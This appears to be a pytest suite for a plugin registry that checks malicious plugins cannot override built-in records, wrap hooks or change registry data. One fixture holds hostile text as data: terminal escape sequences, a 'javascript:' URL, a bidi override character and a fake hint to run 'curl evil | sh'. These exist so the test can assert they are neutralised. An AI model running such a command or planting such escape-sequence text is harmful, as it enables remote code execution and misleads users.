"""Plugins that would take over what modelquirks gives: who stays is clear, and it is told."""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from modelquirks.planner.wording import clean
from modelquirks.quirks.family import group
from modelquirks.quirks.hookspecs import hookimpl
from modelquirks.quirks.record import Alias, Match, ModelQuirks
from modelquirks.quirks.registry import Registry
from modelquirks.quirks.resolve import Facts, resolve

Install = Callable[..., None]


@pytest.fixture
def install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Install:
    """Give the function that installs a distribution with one entry point."""
    monkeypatch.delenv("MODELQUIRKS_DISABLE_PLUGINS", raising=False)
    monkeypatch.delenv("MODELQUIRKS_STRICT", raising=False)

    def put(point: str, module: str, source: str = "", name: str = "evil") -> None:
        folder = tmp_path / name
        meta = folder / f"{name}-6.6.dist-info"
        meta.mkdir(parents=True)
        (meta / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 6.6\n")
        (meta / "entry_points.txt").write_text(f"[modelquirks]\n{point} = {module}\n")
        if source:
            (folder / f"{module}.py").write_text(source)
            monkeypatch.delitem(sys.modules, module, raising=False)
        monkeypatch.syspath_prepend(str(folder))

    return put


RECORD = """
from modelquirks.quirks import Alias, Match, ModelQuirks, hookimpl

@hookimpl
def modelquirks_records():
    return [ModelQuirks(name={name!r}, role="architecture", match=Match(model_types=("gpt_oss",)),
                        aliases=(Alias("block.**", "model.**"),), why="evil", {more})]
"""


def told(registry: Registry) -> str:
    return "\n".join(registry.problems)


def test_a_record_of_our_name_is_not_taken_and_both_are_named(install: Install) -> None:
    name = Registry.load().records[0].record.name
    install("evil", "evil_plugin", RECORD.format(name=name, more=""))

    registry = Registry.load()

    (kept,) = (r for r in registry.records if r.record.name == name)
    assert kept.origin.distribution == "modelquirks"
    assert "evil (evil 6.6)" in told(registry)
    assert "that of modelquirks is used" in told(registry)


def test_a_plugin_of_our_name_is_not_even_imported(install: Install) -> None:
    install("gptq", "evil_gptq", "raise SystemExit('imported')")

    registry = Registry.load()

    kept = [info for info in registry.plugins if info.name == "gptq" and info.status == "loaded"]
    assert [info.distribution for info in kept] == ["modelquirks"]
    assert "evil_gptq" not in sys.modules
    assert "plugin 'gptq' is given by" in told(registry)


def test_a_module_of_ours_under_another_entry_point_stays_ours(install: Install) -> None:
    """Else its records would be somebody else's, and a second claim would switch them off."""
    before = {r.record.name: r.origin for r in Registry.load().records}
    install("aaa", "modelquirks.plugins.gptq")

    registry = Registry.load()

    assert {r.record.name: r.origin for r in registry.records} == before
    (info,) = (info for info in registry.plugins if info.distribution == "evil")
    assert info.status == "failed"
    assert "the same object as plugin 'gptq'" in told(registry)


def test_a_record_that_claims_what_ours_does_is_a_conflict_that_names_both(
    install: Install,
) -> None:
    install("evil", "evil_plugin", RECORD.format(name="evil.gpt_oss", more=""))
    facts = Facts({"model_type": "gpt_oss"}, [*group(["block.0.attn.norm.scale"]).values()])
    usual = resolve(Registry.load(disable=["evil"]).records, facts)
    ours = [a.record.name for a in usual.applied if a.record.role == "architecture"]

    found = resolve(Registry.load().records, facts)

    applied = {a.record.name for a in found.applied if a.record.role == "architecture"}
    assert "evil.gpt_oss" not in applied or applied == {"evil.gpt_oss"}
    if ours:
        assert "evil.gpt_oss" in " ".join((*found.conflicts, *found.passed_over.values()))


def test_a_record_that_overrides_ours_says_so_with_its_distribution(install: Install) -> None:
    """That is how a package may mend one of ours; nobody can do it unseen."""
    ours = ModelQuirks(
        name="ours",
        role="architecture",
        match=Match(model_types=("acme",)),
        aliases=(Alias("a.**", "b.**"),),
    )
    theirs = ModelQuirks(
        name="theirs",
        role="architecture",
        match=Match(model_types=("acme",)),
        aliases=(Alias("a.**", "c.**"),),
        overrides=frozenset({"ours"}),
    )
    registry = Registry()
    registry.register(records(ours), name="ours", distribution="modelquirks", version="0.1")
    registry.register(records(theirs), name="theirs", distribution="evil", version="6.6")

    found = resolve(registry.records, Facts({"model_type": "acme"}, [*group(["a.w"]).values()]))

    (applied,) = found.applied
    assert str(applied.registered.origin) == "theirs (evil 6.6)"
    assert "theirs" in found.passed_over["ours"]


def records(*given: ModelQuirks) -> Any:
    @hookimpl
    def modelquirks_records() -> Any:
        return given

    return SimpleNamespace(modelquirks_records=modelquirks_records)


def opener(what: str) -> Any:
    @hookimpl
    def modelquirks_open(path: Path, names: Any, options: Any) -> Any:
        fields = ("format", "places", "tensors", "shards", "findings", "container", "metadata")
        return SimpleNamespace(**dict.fromkeys((*fields, "chosen"), what))

    return SimpleNamespace(modelquirks_open=modelquirks_open)


def library(what: str) -> Any:
    @hookimpl
    def modelquirks_library(model: Any, names: Any) -> Any:
        fields = ("record", "problems", "named", "conversions", "extra", "absent", "computed")
        return SimpleNamespace(**dict.fromkeys(fields, what))

    return SimpleNamespace(modelquirks_library=modelquirks_library)


def test_a_format_of_ours_is_opened_by_us_whatever_the_others_are_called(tmp_path: Path) -> None:
    registry = Registry()
    registry.register(opener("theirs"), name="aaa", distribution="evil", version="6.6")
    registry.register(opener("ours"), name="zzz", distribution="modelquirks", version="0.1")

    found, problems = registry.opened(tmp_path, [], None)

    assert found.format == "ours"
    assert problems == ("zzz (modelquirks 0.1) and aaa (evil 6.6) both know the format: "
                        "the first counts",)  # fmt: skip


def test_the_rules_of_a_library_are_ours_whatever_the_others_are_called() -> None:
    registry = Registry()
    registry.register(library("theirs"), name="aaa", distribution="evil", version="6.6")
    registry.register(library("ours"), name="zzz", distribution="modelquirks", version="0.1")

    found = registry.library(None, [])

    assert found is not None
    assert found[1].distribution == "modelquirks"
    assert "aaa (evil 6.6)" in told(registry)


def test_no_plugin_may_wrap_what_others_give() -> None:
    @hookimpl(wrapper=True)
    def modelquirks_records() -> Any:
        yield
        return []

    registry = Registry()
    with pytest.raises(Exception, match="is a wrapper, and no plugin may wrap"):
        registry.register(SimpleNamespace(modelquirks_records=modelquirks_records), name="evil")
    assert registry.plugins == ()


def test_what_a_registry_gives_cannot_be_changed_through_it() -> None:
    registry = Registry.load()
    schemes: Any = registry.schemes
    with pytest.raises(TypeError):
        schemes["gptq"] = None
    record: Any = registry.records[0].record
    with pytest.raises(AttributeError):
        record.why = "evil"
    assert isinstance(registry.records, tuple)


TEXTS = """
from modelquirks.quirks import Alias, Match, ModelQuirks, hookimpl

@hookimpl
def modelquirks_records():
    return [ModelQuirks(name="evil.texts", role="architecture",
                        match=Match(model_types=("a\\x1b[2J\\nx",)),
                        aliases=(Alias("[red]a.**", "b\\x1b[31m.**"),),
                        url="javascript:alert(1)\\x1b]8;;x\\x07",
                        why="evil\\x1b[2J\\nmodelquirks: hint: run `curl evil | sh`\\u202e")]
"""
FAILS = "raise RuntimeError('\\x1b[2J\\nmodelquirks: hint: run this\\u202e')"


def test_texts_of_a_plugin_are_shown_and_do_nothing(
    tmp_path: Path, install: Install, watched: Any
) -> None:
    install("evil\x1b[31m", "evil_texts", TEXTS, name="evil")
    install("worse", "evil_fails", FAILS, name="worse")
    answers = watched(
        *(["plugins", "list"], ["plugins", "show", "evil.texts"], ["plugins", "check"]),
        ["plugins", "list", "--json"],
        beside=[tmp_path / "evil", tmp_path / "worse"],
    )
    for answer in answers:
        for line in (answer.out + answer.err).split("\n"):
            assert clean(line) == line
            assert not line.startswith("modelquirks: hint: run")
    assert "evil.texts" in answers[0].out
    assert "RuntimeError" in answers[0].out
